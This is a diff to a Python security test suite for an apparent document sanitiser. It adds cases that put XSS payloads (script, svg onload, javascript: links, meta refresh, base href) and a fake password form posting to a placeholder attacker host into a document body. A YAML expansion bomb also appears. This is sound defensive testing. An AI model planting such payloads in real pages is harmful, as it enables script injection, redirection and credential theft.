@@ -281,6 +281,19 @@ def attacks(project: Path) -> list[Attack]:
                      f"title: Kế hoạch {m} năm {y}", f"title: 'Kế hoạch {m} </title>{script}<title>'", 1),
                  withheld=False)
 
+    # Markup in the body of a published document (the sanitiser's side of "never runs or redirects").
+    withheld_doc("e12-body-markup", lambda m, y: document(project, m, y, extra="\n\n".join((
+        script, image, f"<svg onload=\"alert('{EVIL}')\"></svg>",
+        f'<meta http-equiv="refresh" content="0;url=https://{EVIL_HOST}/{EVIL}">',
+        f"<iframe src=\"javascript:alert('{EVIL}')\"></iframe>",
+        f"<a href=\"javascript:alert('{EVIL}')\">bấm</a>", f"[bấm](javascript:alert('{EVIL}'))",
+        f'<form action="https://{EVIL_HOST}/{EVIL}"><input name=p type=password><button>Đăng nhập</button></form>',
+        f'<object data="https://{EVIL_HOST}/{EVIL}.swf"></object>',
+        f'<link rel="stylesheet" href="https://{EVIL_HOST}/{EVIL}.css">'))), withheld=False)
+    withheld_doc("e13-body-base-href",
+                 lambda m, y: document(project, m, y, extra=f'<base href="https://{EVIL_HOST}/{EVIL}/">'),
+                 withheld=False)
+
     # --- f: cost ----------------------------------------------------------------------------------
     bomb = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
     bomb += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, "
